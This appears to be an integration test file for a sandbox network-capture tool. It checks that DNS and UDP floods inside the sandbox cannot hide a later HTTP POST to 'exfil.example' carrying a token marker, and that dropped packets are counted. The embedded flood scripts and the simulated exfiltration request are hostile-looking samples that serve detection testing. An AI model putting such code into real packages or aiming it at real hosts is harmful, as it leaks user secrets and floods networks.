/**
 * The capture under floods, with real containers: a package that floods the capture must not
 * hide what it does next, and what the capture could not take must be counted, never silent.
 * Every packet stays in the sandbox's own network namespace (the capture answers it).
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { findBaitLeaks } from '../../src/core/bait.js';
import { summaryEvents } from '../../src/core/bounds.js';
import type { EventLog } from '../../src/core/events.js';
import type { CaptureEvent, StreamEvent } from '../../src/core/terms.js';
import type { ImageRefs } from '../../src/images/inputs.js';
import type { SandboxRun } from '../../src/sandbox/sandbox.js';
import { CaptureTopology } from '../../src/sandbox/topology.js';
import { engine as newEngine, images } from '../support/sandbox.js';

const MARKER = 'phonehome-flood-marker-7f3a9c21d4e5b6a8';
/** For the second flood: a body not seen before (a repeat would only be counted). */
const MARKER2 = 'phonehome-flood-marker-2-0c4e8b1f9a7d';
const bait = (value: string) => [{ id: 'marker', label: 'marker', where: ['the test'], value }];

/**
 * Package-like code: `count` DNS queries (one name, or a distinct name each) at the sandbox's
 * resolver, 200 in flight on one socket, then an HTTP POST whose body carries the marker.
 */
const FLOOD = `
const dgram = require('dgram'), http = require('http');
const [count, mode, marker] = [Number(process.argv[1]), process.argv[2], process.argv[3]];
function query(id, name) {
  const h = Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  const q = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([h, ...q, Buffer.from([0, 0, 1, 0, 1])]);
}
async function main() {
  const sock = dgram.createSocket({ type: 'udp4', recvBufferSize: 1 << 20 });
  await new Promise((r) => sock.bind(0, r));
  const waiting = new Map();
  sock.on('message', (m) => { const w = waiting.get(m.readUInt16BE(0)); if (w) { waiting.delete(m.readUInt16BE(0)); w(true); } });
  let next = 0, ok = 0;
  await Promise.all(Array.from({ length: 200 }, async () => {
    while (next < count) {
      const i = next++;
      const id = i & 0xffff;
      const name = mode === 'one' ? 'boring.example' : 'n' + i + '.flood.example';
      if (await new Promise((res) => {
        const timer = setTimeout(() => { waiting.delete(id); res(false); }, 2000);
        waiting.set(id, (v) => { clearTimeout(timer); res(v); });
        sock.send(query(id, name), 53, '192.168.1.1');
      })) ok++;
    }
  }));
  sock.close();
  const body = 'user=alice&token=' + marker + '&pad=' + 'p'.repeat(3000);
  const status = await new Promise((res) => {
    const req = http.request({ host: 'exfil.example', port: 80, path: '/upload', method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': Buffer.byteLength(body) } },
      (r) => { r.resume(); r.on('end', () => res(r.statusCode)); });
    req.on('error', (e) => res(e.message));
    req.end(body);
  });
  process.stdout.write(JSON.stringify({ ok, status }) + '\\n');
}
main();
`;

/** Datagrams to `ports` distinct ports, sent as fast as one socket can, nothing awaited. */
const UDP_FLOOD = `
const dgram = require('dgram');
const ports = Number(process.argv[1]);
const sock = dgram.createSocket('udp4');
let sent = 0, failed = 0, i = 0;
function burst() {
  for (let k = 0; k < 500 && i < ports; k++, i++)
    sock.send(Buffer.from('flood ' + i), 20000 + i, '203.0.113.77', (e) => { if (e) failed++; else sent++; if (sent + failed === ports) done(); });
  if (i < ports) setImmediate(burst);
}
function done() { sock.close(); process.stdout.write(JSON.stringify({ sent, failed }) + '\\n'); }
burst();
`;

/** Sequential DNS queries: how long they took in all, and how many were answered. */
const LOOKUPS = `
const dgram = require('dgram');
const [count, prefix] = [Number(process.argv[1]), process.argv[2]];
const sock = dgram.createSocket('udp4');
function query(id, name) {
  const h = Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  const q = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([h, ...q, Buffer.from([0, 0, 1, 0, 1])]);
}
async function main() {
  await new Promise((r) => sock.bind(0, r));
  const t0 = Date.now();
  let ok = 0;
  for (let i = 0; i < count; i++) {
    ok += await new Promise((res) => {
      const timer = setTimeout(() => { sock.removeAllListeners('message'); res(0); }, 3000);
      sock.once('message', () => { clearTimeout(timer); res(1); });
      sock.send(query(i, prefix + i + '.example'), 53, '192.168.1.1');
    });
  }
  sock.close();
  process.stdout.write(JSON.stringify({ ok, ms: Date.now() - t0 }) + '\\n');
}
main();
`;

/** Attempts of a kind the log accounts for: in detail, in summaries, or only counted. */
function accounted(log: EventLog, match: (e: CaptureEvent) => boolean): number {
  const detailed = log.events.filter(match).length;
  const summarised = summaryEvents(log)
    .filter((s) => match(s.event))
    .reduce((n, s) => n + s.count, 0);
  return detailed + summarised;
}

describe('capture under a flood', () => {
  const engine = newEngine();
  let refs: ImageRefs;
  let run: SandboxRun;
  let topo: CaptureTopology;

  before(async () => {
    refs = await images(engine);
    run = engine.newRun();
    topo = await CaptureTopology.start(run, {
      runnerImage: refs.runner,
      gatewayImage: refs.gateway,
    });
  });
  after(async () => {
    await run?.dispose();
  });

  async function flood(count: number, mode: 'one' | 'distinct', marker: string) {
    const r = await topo.sandbox.exec(['node', '-e', FLOOD, String(count), mode, marker], {
      user: '1000:1000',
      timeoutMs: 240_000,
    });
    assert.equal(r.exitCode, 0, r.stderr.slice(0, 2000));
    const out = JSON.parse(r.stdout.trim().split('\n').pop() ?? '{}') as {
      ok: number;
      status: number | string;
    };
    // As the site answers writes in this run: 200, 201 or 204 (src/capture/reply.ts).
    assert.ok(
      [200, 201, 204].includes(out.status as number),
      `the POST was answered: ${out.status}`,
    );
    return { out, log: await topo.events(60_000) };
  }

  it('51,000 lookups of one name do not hide the POST that follows', async () => {
    const { out, log } = await flood(51_000, 'one', MARKER);
    assert.ok(out.ok > 50_000, `answered ${out.ok}`);
    const post = log.events.find(
      (e): e is StreamEvent =>
        e.kind === 'http' && e.method === 'POST' && e.host === 'exfil.example',
    );
    assert.ok(post, 'the POST is in the log, in detail');
    assert.equal(post.path, '/upload');
    assert.match(Buffer.from(post.bodySample ?? '', 'base64').toString(), new RegExp(MARKER));
    assert.ok(findBaitLeaks(log.events, bait(MARKER)).some((l) => l.channel === 'HTTP body'));
    const bound = log.bounds.find((b) => b.bound === 'per-destination');
    assert.ok(bound, 'a bound record says the flood was summarised');
    assert.ok(bound.count >= 50_000, `${bound.count}`);
    const boring = (e: CaptureEvent) => e.kind === 'dns' && e.qname === 'boring.example';
    assert.equal(log.events.filter(boring).length, 20, 'the first 20 in detail');
    const seen = accounted(log, boring);
    const lost = log.captureStats?.datagramsLost ?? 0;
    assert.ok(seen <= 51_000 && seen + lost >= 51_000, `seen ${seen}, lost ${lost}`);
    assert.ok(log.captureStats, 'the capture wrote its statistics');
  });

  it('past the hard bound of detailed events, the POST is still there with its body sample', async () => {
    const { log } = await flood(50_500, 'distinct', MARKER2);
    const events = log.bounds.find((b) => b.bound === 'events');
    assert.ok(events, 'the events bound is named in the log');
    assert.equal(events.limit, 50_000);
    const names = accounted(log, (e) => e.kind === 'dns' && e.qname.endsWith('.flood.example'));
    const lost = log.captureStats?.datagramsLost ?? 0;
    assert.ok(names + lost >= 50_500, `every name accounted for: ${names} + ${lost} lost`);
    const synthetic = summaryEvents(log).map((s) => s.event);
    const post = synthetic.find(
      (e): e is StreamEvent =>
        e.kind === 'http' && e.method === 'POST' && e.host === 'exfil.example',
    );
    assert.ok(post, 'the POST is in a summary');
    assert.equal(post.path, '/upload');
    assert.ok(findBaitLeaks(synthetic, bait(MARKER2)).some((l) => l.channel === 'HTTP body'));
  });

  it('a stopped observer: no attempt waits for it, the log says so, and it comes back', async () => {
    const root = { user: '0:0', timeoutMs: 30_000 };
    const find = await topo.sandbox.exec(
      [
        'sh',
        '-c',
        // The observer shows as journald (src/agent/proc.ts disguise) and runs the real node.
        'for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = systemd-journal ] && [ "$(readlink $p/exe)" = /usr/local/bin/node ] && echo ${p#/proc/}; done',
      ],
      root,
    );
    const pid = find.stdout.trim().split('\n')[0];
    assert.match(pid ?? '', /^\d+$/, `the observer's pid: ${find.stdout} ${find.stderr}`);
    const lookups = async (n: number, prefix: string) => {
      const r = await topo.sandbox.exec(['node', '-e', LOOKUPS, String(n), prefix], {
        user: '1000:1000',
        timeoutMs: 60_000,
      });
      assert.equal(r.exitCode, 0, r.stderr.slice(0, 2000));
      return JSON.parse(r.stdout.trim()) as { ok: number; ms: number };
    };
    const before = (await topo.events()).observerHealth.length;
    assert.equal((await topo.sandbox.exec(['kill', '-STOP', pid ?? ''], root)).exitCode, 0);
    try {
      const stopped = await lookups(20, 'stopped');
      assert.equal(stopped.ok, 20, 'every query answered');
      // The first few wait out the reply deadline, the rest are answered at once.
      assert.ok(stopped.ms < 3000, `${stopped.ms} ms for 20 lookups`);
      const log = await topo.events();
      const health = log.observerHealth.slice(before).map((e) => e.status);
      assert.deepEqual(health, ['unresponsive']);
      assert.ok((log.captureStats?.lookupsTimedOut ?? 0) >= 3);
      assert.ok((log.captureStats?.lookupsSkipped ?? 0) >= 1);
      assert.equal(log.captureStats?.observer, 'unresponsive');
    } finally {
      await topo.sandbox.exec(['kill', '-CONT', pid ?? ''], root);
    }
    // Answering a probe again brings attribution back.
    await new Promise((r) => setTimeout(r, 1000));
    await lookups(1, 'back');
    const log = await topo.events();
    assert.deepEqual(
      log.observerHealth.slice(before).map((e) => e.status),
      ['unresponsive', 'responsive'],
    );
    // (Past the events bound since the floods above: it may be in a summary.)
    const back = [...log.events, ...summaryEvents(log).map((x) => x.event)].find(
      (e) => e.kind === 'dns' && e.qname === 'back0.example',
    );
    assert.ok(back && 'proc' in back && back.proc, 'attributed again');
  });

  it('a UDP flood to many ports: what the capture could not take is counted, not silent', async () => {
    const before = (await topo.events()).captureStats;
    const ports = 20_000;
    const r = await topo.sandbox.exec(['node', '-e', UDP_FLOOD, String(ports)], {
      user: '1000:1000',
      timeoutMs: 120_000,
    });
    assert.equal(r.exitCode, 0, r.stderr.slice(0, 2000));
    const sent = (JSON.parse(r.stdout.trim()) as { sent: number }).sent;
    const log = await topo.events(60_000);
    const stats = log.captureStats;
    assert.ok(stats && before);
    const seen = accounted(log, (e) => e.kind === 'udp' && e.ip === '203.0.113.77');
    const counted = log.truncatedCounts.udp ?? 0;
    const lost =
      stats.datagramsLost -
      before.datagramsLost +
      (stats.conntrackDrops - before.conntrackDrops) +
      (stats.conntrackMisses - before.conntrackMisses);
    assert.ok(seen + counted <= sent, `${seen} + ${counted} of ${sent}`);
    assert.ok(
      seen + counted + lost >= sent,
      `seen ${seen}, counted ${counted}, lost ${lost} of ${sent}`,
    );
    if (lost > 0)
      assert.ok(stats.datagramsLost > 0 || stats.conntrackDrops > 0 || stats.conntrackMisses > 0);
  });
});
